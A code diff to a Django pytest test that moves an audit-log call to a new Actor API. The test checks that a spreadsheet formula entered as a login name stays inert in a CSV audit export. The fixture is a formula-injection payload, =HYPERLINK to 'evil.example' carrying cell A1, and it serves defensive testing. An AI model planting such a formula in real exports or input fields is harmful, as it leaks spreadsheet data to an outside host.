@@ -13,6 +13,7 @@ import pytest
 from django.test import Client
 
 from chiiki.core import audit
+from chiiki.core.acting import Actor
 from chiiki.core.models import Municipality, Role, User
 from chiiki.surveys.export import ExportPlan, export_answers
 from chiiki.surveys.xlsform import Field, Form
@@ -47,7 +48,7 @@ def test_a_formula_typed_as_a_login_name_is_inert_in_the_audit_export(
     client = login(auditor)
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"クリック")'
     # Actor labels name respondents and commands, object ids come from uploaded files: both can be typed text.
-    audit.record("surveys.test", actor=None, actor_label=hostile, municipality=town_a, object_id="-1+1")
+    audit.record("surveys.test", by=Actor.system(hostile), municipality=town_a, object_id="-1+1")
     response = client.get("/staff/audit/export.csv", {"municipality": town_a.code})
     assert response.status_code == 200
     text = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
